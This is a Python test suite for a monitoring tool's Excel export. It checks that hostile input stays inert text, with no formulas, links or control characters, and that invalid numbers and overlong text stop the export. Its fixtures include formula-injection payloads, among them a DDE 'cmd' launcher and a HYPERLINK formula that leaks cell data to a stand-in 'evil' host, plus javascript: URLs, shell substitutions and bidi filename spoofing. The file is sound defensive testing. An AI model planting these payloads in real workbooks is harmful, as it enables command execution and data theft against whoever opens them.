"""Hostile text in every field stays text: no formula, no link, no markup, no control reaches a cell."""

import re
import warnings
from collections.abc import Callable, Iterator
from dataclasses import replace
from decimal import Decimal
from io import BytesIO
from itertools import product
from zipfile import ZipFile

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from gaoxin_monitor.domain.board import Board
from gaoxin_monitor.errors import ExportError
from gaoxin_monitor.export import ExportInfo, render_workbook
from gaoxin_monitor.export.safe_text import admitted, clean
from gaoxin_monitor.messages import load

STARTS = (
    *("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠"),
    *(" =", "\u3000=", "\u200b=", "\ufeff=", "'=", "{=", "%="),
)
PAYLOADS = (
    *("1+1", "cmd|'/c calc'!A0", 'HYPERLINK("http://evil/?"&A1,"x")', "SUM(1)"),
    *("DDE(1)", "A1}", "WEBSERVICE(1)", "#REF!"),
)
OTHERS = (
    *("http://evil.example/x", "https://evil", "ftp://evil", "mailto:a@b", "internal:Sheet1!A1", "external:c:\\x"),
    *("file://\\\\srv\\share", "\\\\srv\\share", "javascript:alert(1)", "www.evil.example", "#Sheet1!A1"),
    *("<r><t>bold</t></r>", "<r></r>", "<t>x</t>", "</si></sst>", "]]>", "<!-- x -->", "&amp;", "&lt;", "a&b<c>\"d'"),
    *("_x001B_", "_x0000_x", "_x005F_", "\x00", "\x1b[31mred", "\x07", "\x7f", "\x85", "\u2028", "\u2029", "\x0b"),
    *("\u202egnp.exe", "\u2066x\u2069", "\u200d", "\xad", "\ufffe", "\uffff", "\U0001fffe", "\ud800", "a\udfffb"),
    *("&P&N", "&G", "&[图片]", "&L&C&R", "00123", "1E400", "nan", "inf", "TRUE", "2024-06-01", "1/2", "12%"),
    *("名" * 3000, "x" * 3000, "[Red]", "[缺]", "[bold]x[/bold]", "{0}", "{value}", "%s", "$(id)", "`id`", "'", '"'),
    *(
        "😀",
        "👩‍👩‍👧",
        "e\u0301",
        "الع",
        "ｱｲｳ",
        "\ue000",
        "𠮷",
        "a\nb",
        "a\r\nb",
        "a\tb",
        "Sheet1!A1",
        "R1C1",
        "=",
        "==",
        "-",
    ),
)
HOSTILE = (*(start + payload for start, payload in product(STARTS, PAYLOADS)), *OTHERS)
FIELDS = ("target_1", "target_6", "target_12", "target_16")
"""Rows with every text field between them: names, departments, notes, other sources, members, files and sheets."""
CONTROL = re.compile(r"(?<!_x005F)_x00(0[0-8BCEF]|1.)_")


def _parts(data: bytes) -> Iterator[tuple[str, str]]:
    with ZipFile(BytesIO(data)) as parts:
        for name in parts.namelist():
            yield name, parts.read(name).decode("utf-8")


def _assert_inert(data: bytes) -> None:
    for name, content in _parts(data):
        if name.startswith("xl/worksheets/"):
            assert "<f>" not in content
            assert "<f " not in content
            assert "<hyperlink" not in content
        assert "TargetMode" not in content, name
        assert "[Red]" not in content or name in ("xl/sharedStrings.xml", "docProps/core.xml", "docProps/app.xml")
        assert not CONTROL.search(content), name
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x85\u2028\u202e\ufffe\uffff]", content), name
        assert not any(part in name for part in ("external", "vba", "calcChain", "comments", "media", "drawing"))


def test_there_are_two_hundred_hostile_strings() -> None:
    assert len(set(HOSTILE)) >= 200


def test_hostile_text_in_every_field_is_inert(
    make: Callable[..., Board], make_origin: Callable[..., ExportInfo]
) -> None:
    for language, hostile in product(("zh", "en"), HOSTILE):
        if language == "en" and hostile not in OTHERS[::6]:
            continue

        def taint(text: str, hostile: str = hostile) -> str:
            return hostile + text if len(hostile) < 3000 else hostile

        board = make(taint)
        rows = tuple(row for row in board.rows if row.target.id in FIELDS)
        assert len(rows) == len(FIELDS)
        _assert_inert(render_workbook(replace(board, rows=rows), make_origin(taint), load(language)))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", " =", "\u200b="])
def test_text_that_starts_like_a_formula_keeps_its_quote_when_edited(
    make: Callable[..., Board], make_origin: Callable[..., ExportInfo], start: str
) -> None:
    def taint(text: str) -> str:
        return f"{start}{text}"

    book = openpyxl.load_workbook(BytesIO(render_workbook(make(taint), make_origin(taint), load("zh"))))
    quoted = [
        cell
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and admitted(cell.value)[1]
    ]
    assert len(quoted) > 100
    for cell in quoted:
        assert cell.data_type == "s"
        assert cell.quotePrefix, f"{cell.parent.title}!{cell.coordinate} {cell.value}"


def test_ordinary_text_has_no_quote(data: bytes) -> None:
    with ZipFile(BytesIO(data)) as parts:
        assert "quotePrefix" not in parts.read("xl/styles.xml").decode()


def test_the_literal_text_is_read_back(make: Callable[..., Board], make_origin: Callable[..., ExportInfo]) -> None:
    board = make()
    rows = tuple(
        replace(board.rows[0], target=replace(board.rows[0].target, id=f"t{number}", name_zh=hostile))
        for number, hostile in enumerate(HOSTILE)
    )
    data = render_workbook(replace(board, rows=rows), make_origin(), load("zh"))
    found = CalamineWorkbook.from_filelike(BytesIO(data)).get_sheet_by_name("主要指标").to_python(skip_empty_area=False)
    names = [row[2] for row in found if isinstance(row[0], float)]
    assert [str(name).strip() for name in names] == [clean(hostile).strip() for hostile in HOSTILE]


def test_cleaning_takes_out_what_nobody_sees_and_keeps_what_is_written() -> None:
    assert clean("a\x00b\x1b[31m\u2028c") == "a b [31m c"
    assert clean("\u202e\u200bgnp\xad") == "gnp"
    assert clean("\ud800\ufffe\U0001ffff") == "\ufffd" * 3
    assert clean("高新区 1—2月 ● 𠮷 \ue000") == "高新区 1—2月 ● 𠮷 \ue000"
    assert clean("全\u3000区") == "全\u3000区"
    assert clean(" \t\r\n") == clean("\u200b") == "—"


@pytest.mark.parametrize("value", ["NaN", "sNaN", "Infinity", "-Infinity", "1E+400"])
def test_a_figure_that_is_no_number_stops_the_export_and_names_its_cell(
    board: Board, info: ExportInfo, value: str
) -> None:
    row = replace(board.rows[1], pace=Decimal(value))
    with pytest.raises(ExportError) as caught:
        render_workbook(replace(board, rows=(row,)), info, load("zh"))
    assert caught.value.slug == "export-refused"
    assert caught.value.params["sheet"] in ("一页总览", "主要指标", "预警与督办")
    assert re.fullmatch(r"[A-Z]+\d+", str(caught.value.params["cell"]))


def test_text_too_long_for_a_cell_stops_the_export_and_names_its_cell(board: Board, info: ExportInfo) -> None:
    row = board.rows[2]
    for length, fits in ((32_767, True), (32_768, False)):
        long = replace(row, target=replace(row.target, name_zh="名" * length))
        one = replace(board, rows=(long,))
        if fits:
            render_workbook(one, info, load("zh"))
            continue
        with pytest.raises(ExportError) as caught:
            render_workbook(one, info, load("zh"))
        assert caught.value.params["sheet"] == "主要指标"
        assert caught.value.params["cell"] == "C6"
        for language in ("zh", "en"):
            assert "C6" in load(language).error(caught.value)


def test_a_property_that_xlsxwriter_would_cut_stops_the_export(board: Board, info: ExportInfo) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # as in a program that nobody told to stop at warnings
        with pytest.raises(ExportError) as caught:
            render_workbook(board, replace(info, rule_pack="规" * 300), load("zh"))
    assert caught.value.slug == "export-refused"
